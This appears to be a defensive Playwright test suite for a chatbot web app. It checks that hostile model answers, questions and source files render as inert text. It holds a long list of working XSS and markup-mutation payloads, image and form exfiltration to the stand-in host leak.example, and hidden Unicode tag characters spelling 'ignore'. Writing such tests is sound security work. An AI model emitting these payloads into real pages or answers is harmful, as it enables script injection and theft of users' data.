"""What models and documents may write into the page, of which nothing may run, load or leave."""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browsing import Visit, talkative
from tests.provider_server import Reply

# Whatever runs sets window.canary; whatever is loaded asks this host.
HOST = "//leak.example"
DEEP_LIST = "\n".join(f"{'  ' * depth}- deeper" for depth in range(300))
HOSTILE = {
    "script": "<script>canary=1</script>",
    "script in upper case": "<SCRIPT SRC=https:" + HOST + "/x.js></SCRIPT>",
    "script split by markup": "<scr<script>ipt>canary=1</scr</script>ipt>",
    "image error": "<img src=x onerror=canary=1>",
    "image without a space": "<img/src=x/onerror=canary=1>",
    "image that phones": f'<img src="https:{HOST}/pixel?q=secret">',
    "svg load": "<svg onload=canary=1></svg>",
    "svg script": "<svg><script>canary=1</script></svg>",
    "svg animation": "<svg><a><animate attributeName=href values=javascript:canary=1 /><text>x</text></a></svg>",
    "svg use": f'<svg><use href="https:{HOST}/x.svg#x"/></svg>',
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.canary=1</script>'></foreignObject></svg>",
    "mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary=1&gt;">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=canary=1>">',
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary=1>",
    "mutation by style": "<svg></p><style><g title='</style><img src=x onerror=canary=1>'>",
    "mutation by select": "<select><template><style><!--</style><a rel='--></style><img src onerror=canary=1>'>",
    "declarative shadow root": '<div><template shadowrootmode="open"><img src=x onerror=canary=1></template></div>',
    "iframe": f'<iframe src="https:{HOST}/"></iframe>',
    "iframe with a document": "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "object": f'<object data="https:{HOST}/x.swf"></object><embed src="https:{HOST}/x.swf">',
    "form": f'<form action="https:{HOST}/"><input name=key autofocus onfocus=canary=1><button>Sign in</button></form>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=https:{HOST}/">',
    "base": f'<base href="https:{HOST}/">',
    "link": f'<link rel="stylesheet" href="https:{HOST}/x.css"><link rel="prefetch" href="https:{HOST}/y">',
    "style element": f"<style>input[value^=a]{{background:url(https:{HOST}/a)}} @import 'https:{HOST}/x.css';</style>",
    "style attribute": f'<p style="position:fixed;inset:0;background:url(https:{HOST}/)">Sign in again</p>',
    "details": "<details open ontoggle=canary=1>",
    "media": f'<video autoplay onloadstart=canary=1 poster="https:{HOST}/p"><source onerror=canary=1></video>',
    "body": "<body onload=canary=1 onpageshow=canary=1><html onmouseover=canary=1>",
    "clobbering": "<a id=wordup></a><form id=app name=sign-in><input name=children></form><img name=getElementById>",
    "link to javascript": "[click](javascript:canary=1)",
    "link to javascript in capitals": "[click](JaVaScRiPt&colon;canary=1) [space]( javascript:canary=1)",
    "link to javascript with a tab": "[click](java\tscript:canary=1) [click](<java\nscript:canary=1>)",
    "link to encoded javascript": "[a](&#106;avascript:canary=1) [b](javascript&#58;canary=1) [c](%6aavascript:x)",
    "link to data": "[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuY2FuYXJ5PTE8L3NjcmlwdD4=)",
    "link to other schemes": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](intent://x) <javascript:x>",
    "link without a scheme": f"[a]({HOST}/x) [b](/v1/me) [c](docs) [d](#) [e](?x)",
    "link with a title": '[a](https://example.com "x\\" onclick=canary=1 y=\\"")',
    "link with quotes": '[a](https://example.com/"onmouseover="canary=1) <https://example.com/"onclick=canary=1>',
    "reference to javascript": "[click][1]\n\n[1]: javascript:canary=1",
    "Markdown image": f"![secret](https:{HOST}/pixel?q=secret)",
    "Markdown image of data": "![x](data:image/svg+xml,<svg/onload=canary=1>)",
    "Markdown image with handlers": '![x" onerror="canary=1](x" onerror="canary=1)',
    "image within a link": f"[![x](https:{HOST}/p.png)](javascript:canary=1)",
    "reference image": f"![x][p]\n\n[p]: https:{HOST}/pixel",
    "code fence with HTML": "```html\n<script>canary=1</script><img src=x onerror=canary=1>\n```",
    "code fence with a language of markup": '```"><img/src=x/onerror=canary=1>\nx\n```',
    "code fence that closes the block": "```js\n</code></pre></div><img src=x onerror=canary=1>\n```",
    "open code fence": "```html\n</code><script>canary=1</script>",
    "inline code": "`<img src=x onerror=canary=1>` ``</code><script>canary=1</script>``",
    "table with markup": "| <img src onerror=canary=1> |\n|--:|\n| <script>canary=1</script> [x](vbscript:x) |",
    "heading with markup": "# <svg/onload=canary=1>\n\n<h1 onclick=canary=1>x</h1>\n===",
    "comment": "<!--><script>canary=1</script>--> <![CDATA[<img src=x onerror=canary=1>]]> <?xml x?>",
    "entities": "&lt;img src=x onerror=canary=1&gt; &#60;script&#62;canary=1&#60;/script&#62;",
    "null bytes": "<scr\x00ipt>canary=1</scr\x00ipt> <img src=x one\x00rror=canary=1>",
    "bidirectional override": "Send it to \u202egro.elpmaxe\u202c or \u2066\u2067mine\u2069 now",
    "hidden tags": "All well.\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "very long word": "w" * 20_000,
    "nested list": "- " * 1_000 + "deepest",
    "nested list by indentation": DEEP_LIST,
    "nested quotes": ">" * 3_000 + " deep",
    "many brackets": "[" * 5_000 + "](" * 5_000,
    "many emphases": "*a_" * 4_000,
}
TAGS = set("P BR STRONG EM S CODE PRE UL OL LI BLOCKQUOTE H3 HR TABLE THEAD TBODY TR TH TD A SPAN DIV".split())
TAGS |= {"BUTTON", "SVG", "USE"}  # that copies a code block
ATTRIBUTES = set("href title start class dir target rel role aria-label aria-hidden tabindex type".split())
LOOK = """body => [body, ...body.querySelectorAll("*")].map(each => ({
    tag: each.tagName.toUpperCase(), attributes: each.getAttributeNames(), href: each.getAttribute("href") ?? ""
}))"""


def reply(body: dict[str, Any]) -> Reply:
    asked = body["messages"][-1]["content"]
    text = HOSTILE.get(asked, "")
    size = max(3, len(text) // 100)
    return Reply(deltas=tuple(text[at : at + size] for at in range(0, len(text), size)))


@pytest.fixture(scope="module")
def bot(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with talkative(tmp_path_factory.mktemp("bot"), reply, answer_tokens=32_000) as url:
        yield url


@pytest.fixture(scope="module")
def tab(browser: Browser, bot: str) -> Iterator[Visit]:
    """One for all answers."""
    visit = Visit(browser, viewport={"width": 1000, "height": 600})
    visit.sign_in(bot)
    yield visit
    visit.close()


def inspect(page: Page) -> None:
    """Nothing in the answer but what Markdown makes; nothing ran."""
    found = page.locator(".answer .body").last.evaluate(LOOK)
    assert {each["tag"] for each in found} <= TAGS
    assert {name for each in found for name in each["attributes"]} <= ATTRIBUTES
    links = {each["href"] for each in found if each["tag"] == "A"}
    assert [link for link in links if not re.match(r"https?://|mailto:|#source-", link)] == []
    assert page.evaluate("typeof canary") == "undefined"


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_answer_neither_runs_nor_leaks(tab: Visit, name: str) -> None:
    page = tab.page
    page.get_by_role("button", name="New conversation").click()
    address = page.url
    answer = tab.ask_whole(name)

    inspect(page)
    assert page.url.partition("#")[0] == address.partition("#")[0]
    assert page.title().endswith("Word Up! Bot")
    assert tab.elsewhere == []
    assert tab.complaints == []
    shown = answer.locator(".body").evaluate("body => body.textContent")
    assert shown.strip()
    assert page.locator("#log").evaluate("log => log.scrollWidth <= log.clientWidth"), "it widens the page"


def test_stored_hostile_answers_neither_run_nor_leak(tab: Visit) -> None:
    page = tab.page
    page.get_by_role("button", name="New conversation").click()
    for name in ("image error", "mathml", "link to javascript", "code fence with HTML"):
        tab.ask_whole(name)
    page.reload()
    expect(page.locator(".answer footer")).to_have_count(4)

    inspect(page)
    assert tab.elsewhere == []


def test_list_too_deep_for_any_screen_stands_as_it_was_written(tab: Visit) -> None:
    tab.page.get_by_role("button", name="New conversation").click()
    expect(tab.ask_whole("nested list").locator(".body p")).to_have_text(HOSTILE["nested list"])


def test_hidden_characters_are_shown(tab: Visit) -> None:
    tab.page.get_by_role("button", name="New conversation").click()
    expect(tab.ask_whole("bidirectional override").locator(".body")).to_contain_text("⟦U+202E⟧gro.elpmaxe⟦U+202C⟧")
    expect(tab.ask_whole("hidden tags").locator(".body")).to_contain_text("All well.⟦U+E0069⟧")


def test_image_of_an_answer_is_only_a_link(tab: Visit) -> None:
    tab.page.get_by_role("button", name="New conversation").click()
    link = tab.ask_whole("Markdown image").get_by_role("link", name="secret")
    expect(link).to_have_attribute("href", f"https:{HOST}/pixel?q=secret")
    expect(link).to_have_attribute("rel", "noopener noreferrer")


def test_hostile_question_and_title_are_text(tab: Visit) -> None:
    page = tab.page
    page.get_by_role("button", name="New conversation").click()
    hostile = "<img src=x onerror=canary=1> \u202eevil"
    tab.ask_whole(hostile)

    shown = "<img src=x onerror=canary=1> ⟦U+202E⟧evil"
    expect(page.locator(".question p")).to_have_text(shown)
    expect(page.get_by_role("heading", level=1)).to_have_text(shown)
    expect(page.locator("#conversations a").first).to_have_text(shown)
    assert page.evaluate("typeof canary") == "undefined"


def test_hostile_source_is_text_without_a_link(browser: Browser, tmp_path: Path) -> None:
    knowledge = tmp_path / "knowledge"
    knowledge.mkdir()
    text = "---\ntitle: Zebras\nchecked: 2026-11-21\nkeywords: zebra\nsources:\n  - javascript:canary=1\n---\n"
    text += "# <img src=x onerror=canary=1>\n\nSource: javascript:canary=1\n\nZebras are striped.\n"
    (knowledge / "zebras.md").write_text(text)
    with talkative(tmp_path, Reply(deltas=("Striped [1].",)), knowledge_dir=str(knowledge)) as url:
        visit = Visit(browser)
        page = visit.sign_in(url)
        source = visit.ask_whole("Why are zebras striped?").locator(".sources li")
        expect(source).to_contain_text("<img src=x onerror=canary=1>")
        expect(source.locator("a")).to_have_count(0)
        assert page.evaluate("typeof canary") == "undefined"
        visit.close()


def test_page_cannot_make_code_of_text(browser: Browser, bot: str) -> None:
    visit = Visit(browser)
    page = visit.open(bot)
    ways = {
        "document.body.innerHTML = text": "TypeError",
        "document.createElement('img').setAttribute('onerror', text)": "TypeError",
        "document.createElement('script').textContent = text": "TypeError",
        "document.createElement('script').src = text": "TypeError",
        "document.createElement('iframe').srcdoc = text": "TypeError",
        "trustedTypes.createPolicy('mine', {})": "TypeError",
    }
    for way in ways:
        tried = f"() => {{ const text = 'canary=1'; try {{ {way} }} catch (error) {{ return error.name }} }}"
        assert page.evaluate(tried) == ways[way], way
    assert page.evaluate("typeof canary") == "undefined"
    visit.context.close()
